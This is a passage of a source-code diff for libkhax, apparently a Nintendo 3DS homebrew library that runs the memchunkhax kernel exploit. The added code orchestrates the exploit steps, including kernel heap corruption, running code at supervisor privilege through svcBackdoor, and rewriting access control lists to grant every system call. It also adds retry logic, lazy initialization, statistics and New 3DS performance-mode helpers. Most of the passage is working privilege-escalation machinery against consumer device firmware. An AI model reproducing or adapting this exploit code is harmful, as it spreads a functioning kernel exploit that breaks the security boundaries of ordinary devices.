+	if (policy == KHAX_CACHE_RANGE)
+	{
+		if (Result result = userInvalidateDataCache(dest, size))
+		{
+			KHAX_printf("gspwn:invalidate fail %08lx\n", result);
+			return result;
+		}
+	}
+	else if (Result result = NukeDataCache())
+	{
+		KHAX_printf("gspwn:NukeDataCache fail %08lx\n", result);
+		return result;
+	}
+
+	if (wait && overlapped)
+	{
+		gspWaitForPPF();
+	}
+
+	++g_statistics.m_gspwnCount;
+	g_statistics.m_gspwnTicks += svcGetSystemTick() - start;
+	return 0;
+}
+
+Result KHAX::userFlushDataCache(const void *p, std::size_t n)
+{
+	return GSPGPU_FlushDataCache(p, n);
+}
+
+Result KHAX::userInvalidateDataCache(const void *p, std::size_t n)
+{
+	return GSPGPU_InvalidateDataCache(p, n);
+}
+
+void KHAX::userFlushPrefetch()
+{
+	__asm__ volatile ("mcr p15, 0, %0, c7, c5, 4\n" :: "r"(0));
+}
+
+void KHAX::userDsb()
+{
+	__asm__ volatile ("mcr p15, 0, %0, c7, c10, 4\n" :: "r"(0));
+}
+
+void KHAX::userDmb()
+{
+	__asm__ volatile ("mcr p15, 0, %0, c7, c10, 5\n" :: "r"(0));
+}
+
+void KHAX::kernelCleanDataCacheLineWithMva(const void *p)
+{
+	__asm__ volatile ("mcr p15, 0, %0, c7, c10, 1\n" :: "r"(p));
+}
+
+void KHAX::kernelInvalidateInstructionCacheLineWithMva(const void *p)
+{
+	__asm__ volatile ("mcr p15, 0, %0, c7, c5, 1\n" :: "r"(p));
+}
+
+// Invalidate the unified TLB entry for a page of one address space.  This core only.
+void KHAX::kernelInvalidateTLBEntryWithMvaAndASID(u32 mva, u32 asid)
+{
+	__asm__ volatile ("mcr p15, 0, %0, c8, c7, 1\n" :: "r"((mva & ~0xFFFu) | (asid & 0xFF)));
+}
+
+// Read the ARM11 MPCore performance monitor's cycle counter, which the kernel keeps running for
+// svcGetSystemTick.  It counts CPU cycles, so unlike the system tick it runs three times as fast
+// with a New 3DS at 804 MHz.  Only the low 32 bits; long enough for timing anything short.
+u32 KHAX::kernelGetCycleCounter()
+{
+	u32 value;
+	__asm__ volatile ("mrc p15, 0, %0, c15, c12, 1\n" : "=r"(value));
+	return value;
+}
+
+// Disable IRQ, FIQ and imprecise aborts, returning the previous CPSR.
+u32 KHAX::kernelDisableInterrupts()
+{
+	u32 cpsr;
+	__asm__ volatile ("mrs %0, cpsr\n"
+		"cpsid aif\n" : "=r"(cpsr) :: "memory");
+	return cpsr;
+}
+
+// Restore the interrupt mask bits from a CPSR returned by kernelDisableInterrupts.  The A bit
+// lives in the extension field, so cpsr_c alone would leave imprecise aborts masked.
+void KHAX::kernelRestoreInterrupts(u32 cpsr)
+{
+	__asm__ volatile ("msr cpsr_xc, %0\n" :: "r"(cpsr) : "memory");
+}
+
+// Walk the translation tables to check that kernel code may execute at an address: mapped, and
+// not execute-never.  The tables are found through the translator, so fails if they are in
+// memory that it doesn't know.
+bool KHAX::kernelIsExecutable(const AddressTranslator &translator, const void *p)
+{
+	u32 mva = reinterpret_cast<std::uintptr_t>(p);
+
+	// TTBCR.N splits the address space between the two table base registers.
+	u32 control;
+	u32 base;
+	__asm__ volatile ("mrc p15, 0, %0, c2, c0, 2\n" : "=r"(control));
+	u32 split = control & 7;
+	if ((split == 0) || ((mva >> (32 - split)) == 0))
+	{
+		__asm__ volatile ("mrc p15, 0, %0, c2, c0, 0\n" : "=r"(base));
+		base &= ~(0x3FFFu >> split);
+	}
+	else
+	{
+		__asm__ volatile ("mrc p15, 0, %0, c2, c0, 1\n" : "=r"(base));
+		base &= ~0x3FFFu;
+	}
+
+	const AddressTranslator::Region *hint = nullptr;
+	const u32 *first = reinterpret_cast<const u32 *>(translator.Convert(AddressTranslator::PHYSICAL,
+		AddressTranslator::KERNEL, base + (mva >> 20) * sizeof(u32), sizeof(u32), hint));
+	if (!first)
+	{
+		return false;
+	}
+
+	u32 descriptor = *first;
+	switch (descriptor & 3)
+	{
+		// Section or supersection.
+		case 2:
+			return (descriptor & (1u << 4)) == 0;
+
+		// Coarse page table.
+		case 1:
+		{
+			const u32 *second = reinterpret_cast<const u32 *>(translator.Convert(AddressTranslator::PHYSICAL,
+				AddressTranslator::KERNEL, (descriptor & ~0x3FFu) + ((mva >> 12) & 0xFF) * sizeof(u32), sizeof(u32), hint));
+			if (!second)
+			{
+				return false;
+			}
+
+			u32 page = *second;
+			switch (page & 3)
+			{
+				// Large page.
+				case 1:
+					return (page & (1u << 15)) == 0;
+				// Small page.
+				case 2:
+				case 3:
+					return (page & 1u) == 0;
+				default:
+					return false;
+			}
+		}
+
+		default:
+			return false;
+	}
+}
+
+// Allow every SVC, except nonexistent services 00, 7E or 7F, through an access control list:
+// a thread's, or the process's, which threads copy when they are created.
+void KHAX::kernelGrantSVCAccess(KSVCACL &acl)
+{
+	static constexpr const char s_fullAccessACL[] = "\xFE\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\x3F";
+	static_assert(sizeof(s_fullAccessACL) - 1 == sizeof(KSVCACL), "The full-access ACL isn't the expected size.");
+
+	std::memcpy(acl, s_fullAccessACL, sizeof(acl));
+}
+
+//------------------------------------------------------------------------------------------------
+// Flush the entire CPU data cache by nuking it from orbit.  This is a hack, but the system
+// call svcInvalidateDataCache is probably not accessible to us.
+Result KHAX::NukeDataCache()
+{
+	u64 start = svcGetSystemTick();
+
+	// Allocate a 2 MB dummy buffer.
+	enum : unsigned { DUMMY_ALLOC_SIZE = 2 * 1024 * 1024 };
+
+	u32 *dummyMemory = new(std::nothrow) u32[DUMMY_ALLOC_SIZE / sizeof(*dummyMemory)];
+	if (!dummyMemory)
+	{
+		return MakeError(26, 3, KHAX_MODULE, 1011);
+	}
+
+	// Read from each dword of the buffer in order to force everything else
+	// out of the data cache.
+	volatile u32 *volatileMemory = dummyMemory;
+	for (unsigned x = 0; x < DUMMY_ALLOC_SIZE / sizeof(*dummyMemory); ++x)
+		static_cast<void>(*volatileMemory++);
+
+	// Free the dummy buffer.
+	delete[] dummyMemory;
+
+	++g_statistics.m_nukeCount;
+	g_statistics.m_nukeTicks += svcGetSystemTick() - start;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Time a fixed amount of CPU-bound work once, in system ticks, for checking the CPU clock.  The
+// system tick runs at 268 MHz regardless of the CPU clock, so the result drops to about a third
+// when the New 3DS high clock is on.  PerformanceMode::MeasureClock takes the best of several.
+u64 KHAX::TimeSpinLoop()
+{
+	enum : unsigned { SPIN_COUNT = 0x10000 };
+
+	u64 start = svcGetSystemTick();
+	for (volatile unsigned x = 0; x < SPIN_COUNT; ++x)
+	{
+	}
+	return svcGetSystemTick() - start;
+}
+
+//------------------------------------------------------------------------------------------------
+// Options from the last khaxInitEx, or the defaults.
+KhaxOptions KHAX::g_options = { sizeof(KhaxOptions), KHAX_CACHE_NUKE, KHAX_GPU_COPY_SYNC, KHAX_LOG_CONSOLE, nullptr,
+	nullptr, KHAX::Statistics::DEFAULT_LAYOUT_RETRY_LIMIT, 0, KHAX_GRANT_SERVICES, KHAX_INIT_NOW };
+
+//------------------------------------------------------------------------------------------------
+// Format a diagnostic message and send it to the log sink.
+void KHAX::LogPrintf(const char *format, ...)
+{
+	va_list args;
+	va_start(args, format);
+
+	switch (g_options.logSink)
+	{
+		case KHAX_LOG_CONSOLE:
+			std::vprintf(format, args);
+			LogPace();
+			break;
+
+		case KHAX_LOG_CALLBACK:
+			if (g_options.logCallback)
+			{
+				char message[256];
+				std::vsnprintf(message, sizeof(message), format, args);
+				g_options.logCallback(message, g_options.logContext);
+			}
+			break;
+
+		default:
+			break;
+	}
+
+	va_end(args);
+}
+
+//------------------------------------------------------------------------------------------------
+// Wait for a VBlank and swap buffers, if logging to the console.
+void KHAX::LogPace()
+{
+	if (g_options.logSink == KHAX_LOG_CONSOLE)
+	{
+		gspWaitForVBlank();
+		gfxFlushBuffers();
+		gfxSwapBuffers();
+	}
+}
+
+//------------------------------------------------------------------------------------------------
+// KernelCall's parameters.  svcBackdoor doesn't pass any, so they go through here, under a lock.
+const KHAX::VersionData *KHAX::g_versionData = nullptr;
+static LightLock s_kernelCallLock;
+static Result (*volatile s_kernelCallFunction)(void *context);
+static void *volatile s_kernelCallContext;
+static volatile Result s_kernelCallResult;
+
+//------------------------------------------------------------------------------------------------
+// KHAX_INIT_LAZY state.  s_lazyPending is cleared under s_lazyLock once the deferred
+// initialization has run, so that it only runs once.  The initialization runs on a thread of its
+// own, with a stack of LAZY_STACK_SIZE, rather than on whichever thread happened to call first.
+static LightLock s_lazyLock;
+static volatile bool s_lazyPending = false;
+static Result s_lazyResult = 0;
+enum : std::size_t { LAZY_STACK_SIZE = 0x10000 };
+
+// SetUpLocks's progress: 0 not started, 1 in progress, 2 done.
+static volatile u32 s_lockSetupState = 0;
+
+//------------------------------------------------------------------------------------------------
+// svcBackdoor target for KernelCall.
+static s32 KernelCallThunk()
+{
+	KHAX_trace(KERNEL_CALL_ENTER, reinterpret_cast<std::uintptr_t>(s_kernelCallFunction),
+		reinterpret_cast<std::uintptr_t>(s_kernelCallContext));
+	s_kernelCallResult = s_kernelCallFunction(s_kernelCallContext);
+	KHAX_trace(KERNEL_CALL_LEAVE, reinterpret_cast<std::uintptr_t>(s_kernelCallFunction), s_kernelCallResult);
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Run a function at SVC privilege through svcBackdoor, passing it a context pointer.  Requires
+// that khaxInit has succeeded, because that is what grants access to svcBackdoor.
+Result KHAX::KernelCall(Result (*function)(void *context), void *context)
+{
+	if (Result result = RequireKernelAccess())
+	{
+		return result;
+	}
+
+	LightLock_Lock(&s_kernelCallLock);
+
+	s_kernelCallFunction = function;
+	s_kernelCallContext = context;
+	s_kernelCallResult = 0;
+
+	svcBackdoor(KernelCallThunk);
+	Result result = s_kernelCallResult;
+
+	LightLock_Unlock(&s_kernelCallLock);
+	return result;
+}
+
+//------------------------------------------------------------------------------------------------
+// KernelCallOnEachCore's request to one of its threads.
+namespace
+{
+	struct CoreCall
+	{
+		Result (*m_function)(void *context);
+		void *m_context;
+		Result m_result;
+	};
+}
+
+//------------------------------------------------------------------------------------------------
+// Thread procedure for KernelCallOnEachCore.
+static void CoreCallThread(void *parameter)
+{
+	CoreCall *call = static_cast<CoreCall *>(parameter);
+	call->m_result = KHAX::KernelCall(call->m_function, call->m_context);
+}
+
+//------------------------------------------------------------------------------------------------
+// Run KernelCall on each application core in turn, through a thread pinned to that core.  The
+// cores don't broadcast cache and TLB maintenance to each other, so this is how it reaches them.
+// Core 1 is only available once the application has been given time on it.
+Result KHAX::KernelCallOnEachCore(Result (*function)(void *context), void *context, u32 *reached)
+{
+	enum : std::size_t { THREAD_STACK_SIZE = 0x1000 };
+
+	*reached = 0;
+	if (Result result = RequireKernelAccess())
+	{
+		return result;
+	}
+
+	// The caller just waits, so the threads can have its priority.
+	s32 priority;
+	if (Result result = svcGetThreadPriority(&priority, CUR_THREAD_HANDLE))
+	{
+		return result;
+	}
+
+	Result firstResult = 0;
+	for (unsigned core = 0; core < APPLICATION_CORE_COUNT; ++core)
+	{
+		CoreCall call = { function, context, 0 };
+		Thread thread = threadCreate(CoreCallThread, &call, THREAD_STACK_SIZE, priority, static_cast<int>(core), false);
+		if (!thread)
+		{
+			continue;
+		}
+		threadJoin(thread, U64_MAX);
+		threadFree(thread);
+
+		*reached |= 1u << core;
+		if ((call.m_result != 0) && (firstResult == 0))
+		{
+			firstResult = call.m_result;
+		}
+	}
+
+	return firstResult;
+}
+
+//------------------------------------------------------------------------------------------------
+// Set up libkhax's locks, once for the life of the process.  A LightLock mustn't be set up again
+// while a thread might hold it, so this never repeats, however often khaxInitEx is called.
+// Racing callers wait for the first.
+void KHAX::SetUpLocks()
+{
+	if (s_lockSetupState == 2)
+	{
+		userDmb();
+		return;
+	}
+
+	if (__sync_bool_compare_and_swap(&s_lockSetupState, 0, 1))
+	{
+		LightLock_Init(&s_kernelCallLock);
+		LightLock_Init(&s_lazyLock);
+		HandleResolver::InitLock();
+		userDmb();
+		s_lockSetupState = 2;
+		return;
+	}
+
+	while (s_lockSetupState != 2)
+	{
+		svcSleepThread(0);
+	}
+	userDmb();
+}
+
+//------------------------------------------------------------------------------------------------
+// Give the thread that asked for a KHAX_INIT_LAZY initialization the SVC access that Step6e gave
+// the initialization's own thread.  Runs as svcBackdoor; the context is the caller's KThread.
+static Result KernelGrantCaller(void *context)
+{
+	KHAX::KThread *thread = static_cast<KHAX::KThread *>(context);
+	if (thread->m_process != *KHAX::g_versionData->m_currentKProcessPtr)
+	{
+		return KHAX::MakeError(27, 11, KHAX::KHAX_MODULE, 1023);
+	}
+
+	KHAX::SVCThreadArea *svcThreadArea = KHAX::ContainingRecord<KHAX::SVCThreadArea>(thread->m_svcRegisterState,
+		&KHAX::SVCThreadArea::m_svcRegisterState);
+	KHAX::kernelGrantSVCAccess(svcThreadArea->m_svcAccessControl);
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Thread procedure for a KHAX_INIT_LAZY initialization.  The parameter is a handle to the
+// calling thread, which is given SVC access once the initialization succeeds.
+static void LazyInitThread(void *parameter)
+{
+	using namespace KHAX;
+
+	s_lazyResult = InitializeAndRecord();
+	if (s_lazyResult != 0)
+	{
+		return;
+	}
+
+	Handle caller = *static_cast<const Handle *>(parameter);
+	KhaxHandleInfo info;
+	Result result = HandleResolver::Resolve(&caller, &info, 1);
+	if ((result == 0) && (info.type != KHAX_OBJECT_THREAD))
+	{
+		result = MakeError(27, 11, KHAX_MODULE, 1023);
+	}
+	if (result == 0)
+	{
+		result = KernelCall(KernelGrantCaller, reinterpret_cast<void *>(info.object));
+	}
+	s_lazyResult = result;
+}
+
+//------------------------------------------------------------------------------------------------
+// Check that kernel access is available, first doing a pending KHAX_INIT_LAZY initialization.
+// The initialization gets a thread of its own, which the caller waits for, so that it runs with
+// a known stack size and the caller's priority, whatever thread the caller is.
+Result KHAX::RequireKernelAccess()
+{
+	if (g_versionData)
+	{
+		return 0;
+	}
+
+	if (s_lazyPending)
+	{
+		// Callers that race the first one wait here for its outcome.
+		LightLock_Lock(&s_lazyLock);
+		if (s_lazyPending)
+		{
+			s32 priority;
+			Handle caller = 0;
+			Result result = svcGetThreadPriority(&priority, CUR_THREAD_HANDLE);
+			if (result == 0)
+			{
+				result = svcDuplicateHandle(&caller, CUR_THREAD_HANDLE);
+			}
+			Thread thread = (result == 0) ?
+				threadCreate(LazyInitThread, &caller, LAZY_STACK_SIZE, priority, -2, false) : nullptr;
+
+			// Without the thread, the initialization stays pending for a later call to try.
+			if (!thread)
+			{
+				if (caller)
+				{
+					svcCloseHandle(caller);
+				}
+				LightLock_Unlock(&s_lazyLock);
+				return (result != 0) ? result : MakeError(26, 3, KHAX_MODULE, 1011);
+			}
+
+			u64 start = svcGetSystemTick();
+			threadJoin(thread, U64_MAX);
+			threadFree(thread);
+			svcCloseHandle(caller);
+			g_statistics.m_lazyInitTicks = static_cast<u32>(svcGetSystemTick() - start);
+			s_lazyPending = false;
+		}
+		LightLock_Unlock(&s_lazyLock);
+	}
+
+	if (g_versionData && (s_lazyResult == 0))
+	{
+		return 0;
+	}
+	return s_lazyResult ? s_lazyResult : MakeError(28, 5, KHAX_MODULE, 1016);
+}
+
+//------------------------------------------------------------------------------------------------
+// Given a pointer to a structure that is a member of another structure,
+// return a pointer to the outer structure.  Inspired by Windows macro.
+template <typename Outer, typename Inner>
+Outer *KHAX::ContainingRecord(Inner *member, Inner Outer::*field)
+{
+	unsigned char *p = reinterpret_cast<unsigned char *>(member);
+	p -= reinterpret_cast<std::uintptr_t>(&(static_cast<Outer *>(nullptr)->*field));
+	return reinterpret_cast<Outer *>(p);
+}
+
+//------------------------------------------------------------------------------------------------
+// Run the whole memchunkhax sequence.  Implementation of khaxInit.
+Result KHAX::Initialize()
+{
+	g_statistics.m_failedStep = KHAX_LOG_STEP_NONE;
+	LayoutRetry::Clear(&g_statistics.m_layoutFinding);
+	g_statistics.m_corruptWindowTicks = 0;
+
+#ifdef KHAX_DEBUG
+	bool isNew3DS;
+	IsNew3DS(&isNew3DS, 0);
+	KHAX_printf("khaxInit: k=%08lx f=%08lx n=%d\n", osGetKernelVersion(), osGetFirmVersion(),
+		isNew3DS);
+#endif
+
+	// Look up the current system's version in our table.
+	const VersionData *versionData = VersionData::GetForCurrentSystem();
+	if (!versionData)
+	{
+		KHAX_printf("khaxInit: Unknown kernel version\n");
+		g_statistics.m_failedStep = KHAX_LOG_STEP_UNKNOWN_VERSION;
+		return MakeError(27, 6, KHAX_MODULE, 39);
+	}
+
+	KHAX_printf("verdat t=%08lx s=%08lx v=%08lx\n", versionData->m_threadPatchAddress,
+		versionData->m_syscallPatchAddress, versionData->m_fcramVirtualAddress);
+
+	// Create the hack object.
+	MemChunkHax hax{ versionData };
+
+	// The steps, in order.
+	static Result (MemChunkHax::*const s_steps[])() =
+	{
+		&MemChunkHax::Step1_Initialize,
+		&MemChunkHax::Step2_AllocateMemory,
+		&MemChunkHax::Step3_SurroundFree,
+		&MemChunkHax::Step4_VerifyExpectedLayout,
+		&MemChunkHax::Step5_CorruptCreateThread,
+		&MemChunkHax::Step6_ExecuteSVCCode,
+		&MemChunkHax::Step7_GrantServiceAccess,
+	};
+	static_assert(KHAX_lengthof(s_steps) == KHAX_lengthof(g_statistics.m_stepTicks),
+		"Statistics::m_stepTicks doesn't match the number of steps.");
+
+	// Run through the steps, timing each one.  If Step4 finds an unexpected heap layout, go back
+	// to Step2 and try again, up to the retry limit; nothing has been corrupted yet.
+	std::memset(g_statistics.m_stepTicks, 0, sizeof(g_statistics.m_stepTicks));
+	g_statistics.m_layoutAttempts = 1;
+	g_statistics.m_layoutTicks = 0;
+
+	u64 initStart = svcGetSystemTick();
+	u64 layoutStart = 0;
+	unsigned step = 0;
+	while (step < KHAX_lengthof(s_steps))
+	{
+		u64 start = svcGetSystemTick();
+		if (step == 1 && g_statistics.m_layoutAttempts == 1)
+		{
+			layoutStart = start;
+		}
+
+		// Until Step5 corrupts the heap, running out of time is a clean failure.
+		if ((step <= 4) && (g_options.timeBudgetTicks != 0) && (start - initStart > g_options.timeBudgetTicks))
+		{
+			KHAX_printf("khaxInit: out of time before Step%u\n", step + 1);
+			g_statistics.m_failedStep = step + 1;
+			return MakeError(26, 9, KHAX_MODULE, 1022);
+		}
+
+		// Step7 is optional.
+		if ((step == 6) && !(g_options.grants & KHAX_GRANT_SERVICES))
+		{
+			++step;
+			continue;
+		}
+
+		// Step5 leaves the heap corrupt, so Step6 runs straight after it, with none of the loop's
+		// bookkeeping in between.  Step6 times the corrupted window, which is most of its own time.
+		unsigned last = step;
+		Result result = (hax.*s_steps[step])();
+		if ((step == 4) && (result == 0))
+		{
+			last = 5;
+			result = hax.Step6_ExecuteSVCCode();
+		}
+		u64 end = svcGetSystemTick();
+
+		if (last == 5)
+		{
+			u32 window = g_statistics.m_corruptWindowTicks;
+			g_statistics.m_stepTicks[4] += static_cast<u32>(end - start) - window;
+			g_statistics.m_stepTicks[5] += window;
+		}
+		else
+		{
+			g_statistics.m_stepTicks[step] += static_cast<u32>(end - start);
+		}
+
+		if ((step == 3) && LayoutRetry::MayRetry(MemChunkHax::IsLayoutMismatch(result),
+			g_statistics.m_layoutAttempts, g_statistics.m_layoutRetryLimit))
+		{
+			KHAX_printf("khaxInit: layout retry %lu\n", g_statistics.m_layoutAttempts);
+			result = hax.PrepareLayoutRetry(g_statistics.m_layoutAttempts);
+			if (result == 0)
+			{
+				// The mismatch is only reported if the last attempt has one too.
+				LayoutRetry::Clear(&g_statistics.m_layoutFinding);
+
+				++g_statistics.m_layoutAttempts;
+				step = 1;
+				continue;
+			}
+		}
+
+		if (result != 0)
+		{
+			KHAX_printf("khaxInit: Step%u failed: %08lx\n", last + 1, result);
+			g_statistics.m_failedStep = last + 1;
+			return result;
+		}
+
+		if (step == 3)
+		{
+			g_statistics.m_layoutTicks = static_cast<u32>(end - layoutStart);
+		}
+		step = last + 1;
+	}
+
+	// Kernel access is available from now on.
+	g_versionData = versionData;
+
+	KHAX_printf("khaxInit: done\n");
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Initialize, recording the outcome in the statistics and the attempt log.
+Result KHAX::InitializeAndRecord()
+{
+	u64 start = svcGetSystemTick();
+	Result result = Initialize();
+	g_statistics.m_lastResult = result;
+
+	AttemptLog::Append(result, static_cast<u32>(svcGetSystemTick() - start));
+	return result;
+}
+
+//------------------------------------------------------------------------------------------------
+// Main initialization function interface.
+extern "C" Result khaxInit()
+{
+	KhaxOptions options;
+	khaxGetDefaultOptions(&options);
+	return khaxInitEx(&options);
+}
+
+//------------------------------------------------------------------------------------------------
+// Fill in the options that khaxInit uses.
+extern "C" void khaxGetDefaultOptions(KhaxOptions *options)
+{
+	using namespace KHAX;
+
+	if (!options)
+	{
+		return;
+	}
+
+	std::memset(options, 0, sizeof(*options));
+	options->size = sizeof(*options);
+	options->cachePolicy = KHAX_CACHE_NUKE;
+	options->gpuCopyMode = KHAX_GPU_COPY_SYNC;
+	options->logSink = KHAX_LOG_CONSOLE;
+	options->layoutRetries = g_statistics.m_layoutRetryLimit;
+	options->timeBudgetTicks = 0;
+	options->grants = KHAX_GRANT_SERVICES;
+	options->initMode = KHAX_INIT_NOW;
+}
+
+//------------------------------------------------------------------------------------------------
+// khaxInit with a choice of strategies.
+extern "C" Result khaxInitEx(const KhaxOptions *options)
+{
+	using namespace KHAX;
+
+	if (!options)
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1014);
 	}
-	if (Result result = hax.Step4_VerifyExpectedLayout())
+
+	if (options->size != sizeof(*options))
 	{
-		KHAX_printf("khaxInit: Step4 failed: %08lx\n", result);
-		return result;
+		return MakeError(28, 7, KHAX_MODULE, 1004);
+	}
+
+	if ((options->cachePolicy > KHAX_CACHE_RANGE) || (options->gpuCopyMode > KHAX_GPU_COPY_OVERLAPPED) ||
+		(options->logSink > KHAX_LOG_CALLBACK) || (options->grants & ~static_cast<u32>(KHAX_GRANT_SERVICES)) ||
+		(options->initMode > KHAX_INIT_LAZY))
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1005);
+	}
+
+	if ((options->logSink == KHAX_LOG_CALLBACK) && !options->logCallback)
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1014);
+	}
+
+	SetUpLocks();
+
+	g_options = *options;
+	g_statistics.m_layoutRetryLimit = options->layoutRetries;
+	g_statistics.m_lazyInitTicks = 0;
+
+	// In lazy mode, leave the work to the first call that needs kernel access.
+	LightLock_Lock(&s_lazyLock);
+	s_lazyResult = 0;
+	s_lazyPending = (options->initMode == KHAX_INIT_LAZY) && !g_versionData;
+	LightLock_Unlock(&s_lazyLock);
+
+	if (options->initMode == KHAX_INIT_LAZY)
+	{
+		return 0;
 	}
-	if (Result result = hax.Step5_CorruptCreateThread())
+	return InitializeAndRecord();
+}
+
+//------------------------------------------------------------------------------------------------
+// Shut down libkhax.  khaxInit frees all of its memory on the way out, but the kernel hooks
+// installed since then must be removed before the process goes away.
+extern "C" Result khaxExit()
+{
+	using namespace KHAX;
+
+	SetUpLocks();
+
+	// A lazy initialization that never happened isn't wanted any more.  One in progress is
+	// waited for, since its hooks may need removing below.
+	LightLock_Lock(&s_lazyLock);
+	s_lazyPending = false;
+	LightLock_Unlock(&s_lazyLock);
+
+	if (Result result = SVCProfiler::Uninstall())
 	{
-		KHAX_printf("khaxInit: Step5 failed: %08lx\n", result);
 		return result;
 	}
-	if (Result result = hax.Step6_ExecuteSVCCode())
+
+	if (Result result = PhysicalMapper::UnmapAll())
 	{
-		KHAX_printf("khaxInit: Step6 failed: %08lx\n", result);
 		return result;
 	}
-	if (Result result = hax.Step7_GrantServiceAccess())
+
+	if (Result result = Sampler::Stop())
 	{
-		KHAX_printf("khaxInit: Step7 failed: %08lx\n", result);
 		return result;
 	}
+	ThreadRegistry::Clear();
 
-	KHAX_printf("khaxInit: done\n");
 	return 0;
 }
 
 //------------------------------------------------------------------------------------------------
-// Shut down libkhax.  Doesn't actually do anything at the moment, since khaxInit does everything
-// and frees all memory on the way out.
-extern "C" Result khaxExit()
+// Retrieve the statistics gathered so far.
+extern "C" Result khaxGetStats(KhaxStats *stats)
+{
+	using namespace KHAX;
+
+	if (!stats)
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1014);
+	}
+
+	std::memset(stats, 0, sizeof(*stats));
+
+	// Take a copy of the window history so that the percentile is computed on a consistent set;
+	// kernel-mode code may still be adding to it.
+	u32 history[Statistics::WINDOW_HISTORY_SIZE];
+	u32 count = g_statistics.m_windowCount;
+	unsigned valid = (std::min)(count, static_cast<u32>(Statistics::WINDOW_HISTORY_SIZE));
+	std::memcpy(history, g_statistics.m_windowHistory, valid * sizeof(history[0]));
+
+	stats->interruptsOffWindowCount = count;
+	stats->interruptsOffMaxTicks = g_statistics.m_windowMaxTicks;
+	stats->interruptsOffBudgetTicks = g_statistics.m_windowBudgetTicks;
+
+	std::memcpy(stats->stepTicks, g_statistics.m_stepTicks, sizeof(stats->stepTicks));
+	stats->gspwnCount = g_statistics.m_gspwnCount;
+	stats->gspwnTicks = g_statistics.m_gspwnTicks;
+	stats->dataCacheNukeCount = g_statistics.m_nukeCount;
+	stats->dataCacheNukeTicks = g_statistics.m_nukeTicks;
+	stats->layoutAttempts = g_statistics.m_layoutAttempts;
+	stats->layoutTicks = g_statistics.m_layoutTicks;
+	stats->lastFailedStep = g_statistics.m_failedStep;
+	stats->lastResult = g_statistics.m_lastResult;
+	stats->corruptWindowTicks = g_statistics.m_corruptWindowTicks;
+	stats->lazyInitTicks = g_statistics.m_lazyInitTicks;
+
+	if (valid > 0)
+	{
+		std::sort(history, history + valid);
+		stats->interruptsOffP99Ticks = history[(valid * 99 + 99) / 100 - 1];
+	}
+
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Append a record of each khaxInit attempt to a binary log file.
+extern "C" Result khaxSetAttemptLog(const char *path)
+{
+	return KHAX::AttemptLog::SetPath(path);
+}
+
+//------------------------------------------------------------------------------------------------
+// Set how many times khaxInit may retry after Step4 finds an unexpected heap layout.
+extern "C" Result khaxSetLayoutRetryLimit(u32 retries)
+{
+	KHAX::g_statistics.m_layoutRetryLimit = retries;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Set the budget for a single interrupts-disabled window.
+extern "C" Result khaxSetInterruptBudget(u32 ticks)
+{
+	using namespace KHAX;
+
+	g_statistics.m_windowBudgetTicks = ticks ? ticks : static_cast<u32>(Statistics::DEFAULT_WINDOW_BUDGET);
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Install the SVC profiler.
+extern "C" Result khaxSVCProfilerInstall(const volatile KhaxSVCProfile **profile)
+{
+	return KHAX::SVCProfiler::Install(profile);
+}
+
+//------------------------------------------------------------------------------------------------
+// Remove the SVC profiler hooks.
+extern "C" Result khaxSVCProfilerUninstall()
+{
+	return KHAX::SVCProfiler::Uninstall();
+}
+
+//------------------------------------------------------------------------------------------------
+// Zero the SVC profile's counters.
+extern "C" Result khaxSVCProfilerReset()
+{
+	return KHAX::SVCProfiler::Reset();
+}
+
+//------------------------------------------------------------------------------------------------
+// ptm:sysm and the spin loop, for PerformanceMode::Enable.
+static s32 PerformanceModeOpen(void *)
+{
+	return ptmSysmInit();
+}
+
+//------------------------------------------------------------------------------------------------
+static s32 PerformanceModeConfigure(void *, u8 flags)
+{
+	return PTMSYSM_ConfigureNew3DSCPU(flags);
+}
+
+//------------------------------------------------------------------------------------------------
+static void PerformanceModeClose(void *)
+{
+	ptmSysmExit();
+}
+
+//------------------------------------------------------------------------------------------------
+static u64 PerformanceModeTimeSpin(void *)
+{
+	return KHAX::TimeSpinLoop();
+}
+
+//------------------------------------------------------------------------------------------------
+// On a New 3DS, configure the CPU clock and L2 cache through ptm:sysm, then confirm that the
+// clock actually changed.
+extern "C" Result khaxEnableNew3DSPerformanceMode(u32 flags)
 {
+	using namespace KHAX;
+
+	static_assert((PerformanceMode::HIGH_CLOCK == KHAX_NEW3DS_HIGH_CLOCK) &&
+		(PerformanceMode::L2_CACHE == KHAX_NEW3DS_L2_CACHE), "khaxperf.h disagrees with khax.h.");
+
+	// ptm:sysm is only reachable after Step7_GrantServiceAccess.
+	if (Result result = RequireKernelAccess())
+	{
+		return result;
+	}
+
+	if (!g_versionData->m_new3DS)
+	{
+		return MakeError(28, 6, KHAX_MODULE, 1012);
+	}
+
+	const PerformanceMode::System system = { PerformanceModeOpen, PerformanceModeConfigure, PerformanceModeClose,
+		PerformanceModeTimeSpin, nullptr };
+	PerformanceMode::Measurement measurement;
+	switch (PerformanceMode::Enable(system, flags, &measurement))
+	{
+		case PerformanceMode::STATUS_OK:
+			break;
+
+		case PerformanceMode::STATUS_BAD_FLAGS:
+			return MakeError(28, 7, KHAX_MODULE, 1005);
+
+		case PerformanceMode::STATUS_SERVICE_FAILED:
+			KHAX_printf("N3DSPerf:ptm:sysm fail:%08lx\n", measurement.m_serviceResult);
+			return measurement.m_serviceResult;
+
+		case PerformanceMode::STATUS_NOT_CONFIRMED:
+		default:
+			KHAX_printf("N3DSPerf:low=%llu high=%llu\n", measurement.m_lowClockTicks, measurement.m_highClockTicks);
+			return MakeError(27, 11, KHAX_MODULE, 1023);
+	}
+
+	if (flags & KHAX_NEW3DS_HIGH_CLOCK)
+	{
+		KHAX_printf("N3DSPerf:low=%llu high=%llu\n", measurement.m_lowClockTicks, measurement.m_highClockTicks);
+	}
 	return 0;
 }
+
+//------------------------------------------------------------------------------------------------
+// Convert an array of addresses from one address space to another.
